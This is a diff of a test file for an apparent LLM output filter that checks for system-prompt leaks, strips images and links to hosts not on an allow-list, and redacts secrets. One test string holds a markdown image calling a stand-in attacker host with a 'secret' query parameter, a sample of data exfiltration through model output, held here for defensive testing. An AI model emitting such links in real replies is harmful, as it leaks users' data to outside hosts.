@@ -93,14 +93,12 @@ describe("output checks", () => {
     expect(result.blocked).toBe(true);
     expect(result.flags).toContain("system_prompt_leak");
   });
-  it("removes images and links with query strings to hosts not allow-listed", () => {
+  it("removes images and links to hosts not allow-listed", () => {
     const out =
-      "See ![chart](https://evil.example/c.png?d=secret) and [docs](https://docs.ok.dev/a?x=1) and [home](https://evil.example/)";
+      "See ![chart](https://evil.example/c.png?d=secret) and [docs](https://ok.dev/a?x=1) and [home](https://evil.example/)";
     const result = checkOutput(out, { canary, systemPrompt, allowedLinkHosts: ["ok.dev"] });
     expect(result.blocked).toBe(false);
-    expect(result.text).toBe(
-      "See [image removed] and [docs](https://docs.ok.dev/a?x=1) and [home](https://evil.example/)",
-    );
+    expect(result.text).toBe("See (image removed) and [docs](https://ok.dev/a?x=1) and home");
     expect(result.flags).toContain("exfiltration_image_removed");
   });
   it("redacts secrets in outputs", () => {
